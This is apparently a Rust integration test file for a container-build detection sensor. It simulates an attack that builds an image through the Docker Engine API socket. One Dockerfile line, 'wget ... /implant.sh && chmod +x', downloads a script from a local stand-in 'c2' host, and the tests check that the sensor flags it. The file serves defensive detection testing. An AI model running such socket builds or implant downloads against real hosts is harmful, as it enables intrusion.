//! Live end-to-end tests of correlation and detection (issue 5): the whole T1612 attack.
//!
//! A raw Engine API `POST /build` (curl on the unix socket, a tar context) whose RUN step
//! downloads a file from a test host in a network namespace; the sensor is restarted (lineage
//! must survive it); then a container is started from the built image. The test asserts the
//! build's outbound connection to that host and its policy class, the container_start linked
//! to the build, the findings, and validates every record against schema/records.schema.json.
//!
//! Run as root, one test at a time, with the release sensor built:
//! `cargo build --release -p sensor && cargo test -p sensor-tests --test detect -- --test-threads=1`
use std::path::Path;
use std::time::Duration;

use sensor_tests::{
    Cmd, DOCKER_SOCKET, Dockerd, SensorProcess, TestHost, assert_records_match_schema, docker_cli,
    ensure_base_image, remove_image, require_root, run, sensor_bin, unique_tag, workspace_root,
};
use serde_json::Value;

const BASE: &str = "localbase:1";
const BUILD_TIMEOUT: Duration = Duration::from_secs(180);
const RECORD_TIMEOUT: Duration = Duration::from_secs(30);

/// The policy of the test: `ci` is the only expected builder; nothing the test host serves is
/// an allowed registry.
const POLICY: &str = r#"
[builders]
users = ["ci"]

[outbound]
allowed = ["registry.corp.example", "10.30.0.0/24"]

[rules.deploy_soon_after_build]
window_secs = 600
"#;

/// `POST /build?t=TAG` with a tar of `dockerfile` as the body, as an attacker with the socket
/// (or an exposed API) would send it. Returns the response body (the build's JSON stream).
fn raw_build(dockerfile: &str, tag: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("Dockerfile"), dockerfile).unwrap();
    let tar = dir.path().join("context.tar");
    run(
        "tar",
        &[
            "-C",
            dir.path().to_str().unwrap(),
            "-cf",
            tar.to_str().unwrap(),
            "Dockerfile",
        ],
    );
    let out = Cmd::new("curl")
        .args([
            "-sS",
            "--fail",
            "--unix-socket",
            DOCKER_SOCKET,
            "-X",
            "POST",
        ])
        .args(["-H", "Content-Type: application/x-tar", "--data-binary"])
        .arg(format!("@{}", tar.display()))
        .arg(format!("http://localhost/v1.41/build?t={tag}&rm=1"))
        .timeout(BUILD_TIMEOUT)
        .run();
    let body = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        body.contains("Successfully built") || body.contains("aux"),
        "build failed:\n{body}"
    );
    assert!(!body.contains("errorDetail"), "build failed:\n{body}");
    body
}

fn tag_matches(list: &Value, tag: &str) -> bool {
    list.as_array().is_some_and(|a| {
        a.iter().any(|t| {
            t.as_str()
                .is_some_and(|t| t == tag || t.ends_with(&format!("/{tag}")))
        })
    })
}

fn write_policy(dir: &Path, text: &str) -> String {
    let p = dir.join("policy.toml");
    std::fs::write(&p, text).unwrap();
    p.to_str().unwrap().to_string()
}

/// Removes a container at the end of the test, passed or not.
struct ContainerGuard(String);

impl Drop for ContainerGuard {
    fn drop(&mut self) {
        let _ = Cmd::new(docker_cli()).args(["rm", "-f", &self.0]).try_run();
    }
}

#[test]
fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
    require_root("the attack test (dockerd, network namespaces, eBPF)");
    Dockerd::ensure();
    ensure_base_image(BASE);
    let c2 = TestHost::new("c2");
    c2.serve_http(8080, &[("implant.sh", b"#!/bin/sh\necho implanted\n")]);
    let state = tempfile::tempdir().unwrap();
    let policy = write_policy(state.path(), POLICY);
    let state_dir = state.path().join("state");
    let args = [
        "--policy",
        policy.as_str(),
        "--state-dir",
        state_dir.to_str().unwrap(),
    ];

    let mut sensor = SensorProcess::start(&args).unwrap();
    let tag = unique_tag("detect-attack");
    let url = c2.url(8080, "implant.sh");
    raw_build(
        &format!("FROM {BASE}\nRUN wget -q -O /implant.sh {url} && chmod +x /implant.sh\n"),
        &tag,
    );

    // The build, with its outbound connection to the test host, classed by the policy.
    let build = sensor
        .wait_for(
            |r| {
                r["kind"] == "build_finished"
                    && (tag_matches(&r["tags"], &tag) || tag_matches(&r["params"]["tags"], &tag))
            },
            RECORD_TIMEOUT,
        )
        .unwrap();
    let build_id = build["build_id"].as_str().unwrap().to_string();
    let ip = c2.ip().to_string();
    let outbound = build["outbound"].as_array().cloned().unwrap_or_default();
    let to_c2 = outbound
        .iter()
        .find(|o| o["dst_addr"] == ip.as_str() && o["dst_port"] == 8080)
        .unwrap_or_else(|| panic!("no outbound connection to {ip}:8080 in {build}"));
    assert!(
        to_c2["policy"] == "unknown" || to_c2["policy"] == "denied",
        "{to_c2}"
    );
    let image_id = String::from_utf8(
        run(
            docker_cli(),
            &["image", "inspect", "--format", "{{.Id}}", &tag],
        )
        .stdout,
    )
    .unwrap();
    let image_id = image_id.trim().to_string();

    // The findings on the build: outbound to a destination outside the allowed registries
    // (named), and root over the unix socket is not the `ci` builder.
    let f = sensor
        .wait_for(
            |r| {
                r["kind"] == "finding"
                    && r["rule"] == "build_outbound_not_allowed"
                    && r["build_id"] == build_id.as_str()
            },
            RECORD_TIMEOUT,
        )
        .unwrap();
    assert!(
        f["summary"]
            .as_str()
            .unwrap()
            .contains(&format!("{ip}:8080")),
        "{f}"
    );
    assert!(
        f["details"]["destinations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["addr"] == ip.as_str()),
        "{f}"
    );
    assert_eq!(f["attack"][0], "T1612");
    assert_eq!(f["analytics"][0], "AN1261");
    sensor
        .wait_for(
            |r| {
                r["kind"] == "finding"
                    && r["rule"] == "build_from_unexpected_client"
                    && r["build_id"] == build_id.as_str()
            },
            RECORD_TIMEOUT,
        )
        .unwrap();
    let first_run = sensor.records();
    assert_eq!(sensor.stop().unwrap().code(), Some(0));
    assert!(
        state_dir.join("lineage.json").is_file(),
        "no lineage store in {}",
        state_dir.display()
    );

    // A new sensor: the image's lineage must come from the store.
    let sensor = SensorProcess::start(&args).unwrap();
    let name = format!("detect-attack-{}", std::process::id());
    let _guard = ContainerGuard(name.clone());
    run(
        docker_cli(),
        &["run", "-d", "--name", &name, &tag, "sleep", "60"],
    );
    let start = sensor
        .wait_for(
            |r| r["kind"] == "container_start" && r["name"] == name.as_str(),
            RECORD_TIMEOUT,
        )
        .unwrap();
    assert_eq!(start["build_id"], build_id.as_str(), "{start}");
    assert_eq!(start["image_id"], image_id.as_str(), "{start}");
    assert_eq!(start["runtime"], "docker");
    assert!(
        start["seconds_since_build"]
            .as_u64()
            .is_some_and(|s| s < 600),
        "{start}"
    );
    assert_eq!(start["client"]["transport"], "unix", "{start}");
    let container_id = start["container_id"].as_str().unwrap().to_string();

    let deploy = sensor
        .wait_for(
            |r| {
                r["kind"] == "finding"
                    && r["rule"] == "deploy_soon_after_build"
                    && r["container_id"] == container_id.as_str()
            },
            RECORD_TIMEOUT,
        )
        .unwrap();
    assert_eq!(deploy["build_id"], build_id.as_str());
    // The build also had a non-allowed outbound connection: the stronger severity.
    assert_eq!(deploy["severity"], "high", "{deploy}");
    assert!(
        deploy["evidence"]["record_ids"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
    );
    // Nothing was pushed: no AN0946 chain.
    sensor
        .expect_none(
            |r| r["kind"] == "finding" && r["rule"] == "build_push_deploy_chain",
            Duration::from_secs(2),
        )
        .unwrap();

    let mut all = first_run;
    all.extend(sensor.records());
    assert_records_match_schema(&all);

    // The build session itself (the builds engine's part of the record).
    assert_eq!(build["status"], "succeeded", "{build}");
    assert_eq!(build["image_id"], image_id.as_str(), "{build}");

    drop(sensor);
    remove_image(&tag);
}

#[test]
fn malformed_policy_stops_the_sensor_with_one_clear_line() {
    require_root("running the sensor");
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(
        dir.path(),
        "[rules.deploy_soon_after_build]\nwindow_secs = 60\nwindow = 5\n",
    );
    let out = Cmd::new(sensor_bin())
        .args(["run", "--policy", &policy, "--state-dir"])
        .arg(dir.path().join("state"))
        .timeout(Duration::from_secs(30))
        .output()
        .unwrap();
    assert!(
        !out.status.success(),
        "the sensor started with a malformed policy"
    );
    assert!(
        out.stdout.is_empty(),
        "records were written: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    let line = err
        .lines()
        .find(|l| l.contains("policy"))
        .unwrap_or_else(|| panic!("stderr: {err}"));
    assert!(line.contains("line 3") && line.contains("window"), "{line}");
}

#[test]
fn checked_in_example_policy_validates_with_config_check() {
    let out = Cmd::new(sensor_bin())
        .args(["config", "check"])
        .arg(workspace_root().join("deploy/policy.example.toml"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
